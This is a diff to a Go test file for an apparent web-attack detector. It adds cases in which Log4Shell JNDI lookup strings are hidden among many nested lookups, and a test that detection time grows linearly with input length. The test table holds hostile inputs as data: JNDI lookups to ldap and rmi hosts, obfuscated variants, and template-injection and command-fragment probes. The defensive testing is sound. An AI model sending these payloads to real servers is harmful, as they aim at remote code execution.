@@ -1,7 +1,9 @@
 package detect
 
 import (
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/litesoc/litesoc/parsers"
 )
@@ -68,6 +70,8 @@ func TestProbesOf(t *testing.T) {
 		{"jndi", parsers.Request{UserAgent: "${jndi:ldap://198.51.100.1/a}"}, jndiLookup, true},
 		{"jndi hidden", parsers.Request{Query: "x=%24%7B%24%7Blower:j%7Dnd%24%7Bupper:i%7D:%24%7B::-l%7Ddap://x%7D"}, jndiLookup, true},
 		{"jndi by env", parsers.Request{Referer: "${${env:NaN:-j}ndi${env:NaN:-:}rmi://x}"}, jndiLookup, true},
+		{"jndi before many lookups", parsers.Request{UserAgent: "${jndi:ldap://198.51.100.1/a}" + strings.Repeat("${a}", 100)}, jndiLookup, true},
+		{"jndi around many lookups", parsers.Request{UserAgent: "${${lower:j}ndi:" + strings.Repeat("${a", 100) + "}"}, jndiLookup, true},
 		{"jndi in the path", parsers.Request{Path: "/$%7Bjndi:dns://x%7D"}, jndiLookup, true},
 		{"template left over", parsers.Request{Path: "/img/$%7Bproduct.id%7D", Query: "u={{user.name}}"}, "", false},
 		{"jinja", parsers.Request{Query: "n={{7*7}}"}, templateInjection, true},
@@ -155,6 +159,25 @@ func BenchmarkQuickLooks(b *testing.B) {
 					d.Match(&c.r)
 				}
 			})
+		}
+	}
+}
+
+// What is looked at for a probe takes time that grows with the text alone.
+func TestProbesOfIsLinear(t *testing.T) {
+	for _, part := range []string{"{{", "${", "<%", "{%", "@(", "{{1*", "${a", "${a:-", "${a}", "${jnd", "${${lower:", "%7B%7B", "|", ";cat ", "../", "<a ", "on=", ")("} {
+		text := strings.Repeat(part, maxProbeText/len(part))
+		took := time.Hour
+		for range 3 { // the quickest of them: others use the machine, too
+			began := time.Now()
+			for range 10 {
+				probesOf(&parsers.Request{Path: "/" + text, Query: "q=" + text, UserAgent: text})
+			}
+			took = min(took, time.Since(began))
+		}
+		// It takes less than a tenth of that; were it quadratic, more than all of it.
+		if took > time.Second {
+			t.Errorf("%q: %v", part, took)
 		}
 	}
 }
